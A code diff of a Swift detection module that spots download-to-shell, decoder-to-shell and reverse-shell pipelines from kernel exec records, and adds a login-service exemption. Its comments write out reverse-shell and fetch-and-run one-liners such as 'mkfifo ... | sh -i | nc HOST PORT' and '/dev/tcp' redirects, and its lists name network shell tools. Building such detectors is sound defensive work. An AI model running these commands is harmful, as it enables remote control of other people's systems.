@@ -1,21 +1,50 @@
-/// Downloads piped into a shell or interpreter (`curl -s URL | sh`, `wget -qO- URL | bash`,
-/// `curl URL | python3`): the download tool's stdout and the shell's stdin are the same pipe,
-/// which the kernel reports at each exec (`stdin_pipe` / `stdout_pipe` of the exec record).
-/// Either end may exec first; an end waits at most `window` for the other.
+/// Shell pipelines that run code from outside, seen from the pipes the kernel reports at each
+/// exec (`stdin_pipe` / `stdout_pipe` of the exec record). Either end may exec first; an end
+/// waits at most `window` for the other.
+/// - A download piped into a shell or interpreter (`curl -s URL | sh`, `wget -qO- URL | bash`).
+/// - A decoder piped into one (`echo ... | base64 -d | bash`): code hidden from the command line.
+/// - Reverse shells whose shell never holds a socket itself: a network tool's output piped
+///   into a shell (`nc HOST PORT | sh`, `telnet HOST P1 | sh | telnet HOST P2`), and a shell fed
+///   by a pipe writing into a network tool (`mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`).
 public struct PipelineDetector: Sendable {
     public static let downloaders: Set<String> = [
-        "curl", "wget", "wget2", "fetch", "aria2c", "axel", "tftp", "ftp", "lwp-download", "lwp-request", "GET", "nc", "ncat", "socat",
+        "curl", "wget", "wget2", "fetch", "aria2c", "axel", "tftp", "ftp", "lwp-download", "lwp-request", "GET",
     ]
+    /// Programs that decode, decompress or decrypt: their output piped into a shell runs code
+    /// that was hidden from the command line.
+    public static let decoders: Set<String> = [
+        "base64", "base32", "basenc", "xxd", "uudecode", "openssl", "gpg", "gzip", "gunzip", "zcat", "bzip2", "bunzip2", "bzcat",
+        "xz", "unxz", "xzcat", "zstd", "unzstd", "zstdcat", "lz4", "rev",
+    ]
+    /// Programs that carry a pipe over a raw connection: piped into a shell, or a piped shell's
+    /// output piped into one, they drive the shell from elsewhere.
+    public static let networkTools: Set<String> = [
+        "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet", "telnet.netkit", "inetutils-telnet", "openssl", "cryptcat", "pwncat",
+    ]
+
+    /// What a pipeline is.
+    public enum Kind: Sendable, Equatable {
+        /// a download tool's output into a shell
+        case download
+        /// a decoder's output into a shell
+        case decoder
+        /// a network tool's output into a shell or interpreter
+        case networkToShell
+        /// a piped shell's output into a network tool
+        case shellToNetwork
+    }
     public static let shells: Set<String> = [
         "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish",
         "python", "python2", "python3", "perl", "ruby", "php", "node", "lua",
     ]
 
-    /// A detected pipeline: what downloaded, what ran it, the pipe between them.
+    /// A detected pipeline: the writing end (`source`), the shell, the pipe between them. For
+    /// `.shellToNetwork` the source is the network tool the shell writes into.
     public struct Match: Sendable, Equatable {
         public var source: ProcessEntry
         public var shell: ProcessEntry
         public var pipe: UInt64
+        public var kind: Kind
     }
 
     struct End: Sendable {
@@ -26,16 +55,38 @@ public struct PipelineDetector: Sendable {
     /// Shells proper (a reverse shell is one of these started with a socket on stdin or stdout).
     public static let shellsOnly: Set<String> = ["sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "csh", "tcsh", "fish", "ash"]
 
-    /// A shell whose stdin or stdout is a socket at exec: `nc -e /bin/sh`, and the shell that
-    /// `bash -i >& /dev/tcp/HOST/PORT 0>&1` starts.
-    public static func isReverseShell(_ p: ProcessEntry, stdioSocket: Bool) -> Bool {
-        stdioSocket && shellsOnly.contains(String(base(p.binary)))
+    /// Programs whose standard input or output is a client's connection by design, and which
+    /// start shells for it: a login over ssh (sshd started by socket activation or `sshd -i`),
+    /// telnetd, inetd-style launchers. Full paths: a copy named sshd elsewhere is not one.
+    public static let loginServices: Set<String> = [
+        "/usr/sbin/sshd", "/usr/lib/openssh/sshd-session", "/usr/sbin/dropbear", "/usr/sbin/in.telnetd", "/usr/sbin/telnetd",
+        "/usr/sbin/inetd", "/usr/sbin/xinetd",
+    ]
+
+    /// How a shell's start shows it is driven over a connection, if it does.
+    public enum ReverseShellSign: Sendable, Equatable {
+        /// its stdin or stdout is a socket: `nc -e /bin/sh`, the shell `bash -i >& /dev/tcp/...` starts
+        case stdioSocket
+        /// its parent's is, or it is on a pty and its parent holds a network connection: the
+        /// shell on a pty that python's `pty.spawn`, `script` or socat's pty start for a
+        /// connection they hold
+        case parentStdioSocket
+    }
+
+    public static func reverseShellSign(_ p: ProcessEntry, stdioSocket: Bool, parentStdioSocket: Bool, parent: ProcessEntry?) -> ReverseShellSign? {
+        guard shellsOnly.contains(String(base(p.binary))) else { return nil }
+        if stdioSocket { return .stdioSocket }
+        if parentStdioSocket, let parent, !loginServices.contains(parent.binary) { return .parentStdioSocket }
+        return nil
     }
 
     public var window: UInt64 = 10_000_000_000
     /// Waiting ends by pipe (bounded: the oldest half is dropped when full).
     private var writers: [UInt64: End] = [:]
     private var readers: [UInt64: End] = [:]
+    /// piped shells waiting for the network tool reading their output, and the reverse
+    private var shellWriters: [UInt64: End] = [:]
+    private var networkReaders: [UInt64: End] = [:]
     static let capacity = 4096
 
     public init() {}
@@ -49,19 +100,44 @@ public struct PipelineDetector: Sendable {
 
     /// Looks at one exec; returns the pipeline it completes, if any.
     public mutating func observe(_ p: ProcessEntry, stdinPipe: UInt64, stdoutPipe: UInt64, timeNs: UInt64) -> Match? {
-        let name = Self.base(p.binary)
-        if stdoutPipe != 0, Self.downloaders.contains(String(name)) {
+        let name = String(Self.base(p.binary))
+        if stdoutPipe != 0, let kind = Self.sourceKind(name) {
             if let r = readers.removeValue(forKey: stdoutPipe), timeNs &- r.timeNs <= window {
-                return Match(source: p, shell: r.process, pipe: stdoutPipe)
+                return Match(source: p, shell: r.process, pipe: stdoutPipe, kind: kind)
             }
             Self.insert(&writers, stdoutPipe, End(process: p, timeNs: timeNs))
         }
-        if stdinPipe != 0, Self.shells.contains(String(name)) {
-            if let w = writers.removeValue(forKey: stdinPipe), timeNs &- w.timeNs <= window {
-                return Match(source: w.process, shell: p, pipe: stdinPipe)
+        if stdinPipe != 0, Self.shells.contains(name) {
+            if let w = writers.removeValue(forKey: stdinPipe), timeNs &- w.timeNs <= window,
+                let kind = Self.sourceKind(String(Self.base(w.process.binary)))
+            {
+                return Match(source: w.process, shell: p, pipe: stdinPipe, kind: kind)
             }
             Self.insert(&readers, stdinPipe, End(process: p, timeNs: timeNs))
         }
+        // `cat f | sh -i | nc HOST PORT > f`: a shell whose input is a pipe writes into a network
+        // tool (`report.sh | nc` from a terminal or cron has no pipe on its input)
+        if stdinPipe != 0, stdoutPipe != 0, Self.shellsOnly.contains(name) {
+            if let r = networkReaders.removeValue(forKey: stdoutPipe), timeNs &- r.timeNs <= window {
+                return Match(source: r.process, shell: p, pipe: stdoutPipe, kind: .shellToNetwork)
+            }
+            Self.insert(&shellWriters, stdoutPipe, End(process: p, timeNs: timeNs))
+        }
+        if stdinPipe != 0, Self.networkTools.contains(name) {
+            if let w = shellWriters.removeValue(forKey: stdinPipe), timeNs &- w.timeNs <= window {
+                return Match(source: p, shell: w.process, pipe: stdinPipe, kind: .shellToNetwork)
+            }
+            Self.insert(&networkReaders, stdinPipe, End(process: p, timeNs: timeNs))
+        }
+        return nil
+    }
+
+    /// What a program's output piped into a shell makes of the pipeline (openssl decodes more
+    /// often than it connects: `openssl base64 -d | sh`).
+    static func sourceKind(_ name: String) -> Kind? {
+        if decoders.contains(name) { return .decoder }
+        if downloaders.contains(name) { return .download }
+        if networkTools.contains(name) { return .networkToShell }
         return nil
     }
 
@@ -71,33 +147,5 @@ public struct PipelineDetector: Sendable {
             table = table.filter { $0.value.timeNs >= cut }
         }
         table[pipe] = end
-    }
-}
-
-/// A detection made in user space from kernel facts (today: a download piped to a shell).
-public struct DetectionEvent: Sendable, Equatable {
-    /// The JSON event name, e.g. `process_pipeline`.
-    public var name: String
-    /// e.g. `download-piped-to-shell`.
-    public var detection: String
-    public var process: ProcessEntry
-    public var parent: ProcessEntry?
-    /// The other process involved (the download tool).
-    public var source: ProcessEntry?
-    public var message: String
-    public var tags: [String]
-    public var timeNs: UInt64
-
-    public init(
-        name: String, detection: String, process: ProcessEntry, parent: ProcessEntry?, source: ProcessEntry?, message: String, tags: [String], timeNs: UInt64
-    ) {
-        self.name = name
-        self.detection = detection
-        self.process = process
-        self.parent = parent
-        self.source = source
-        self.message = message
-        self.tags = tags
-        self.timeNs = timeNs
     }
 }
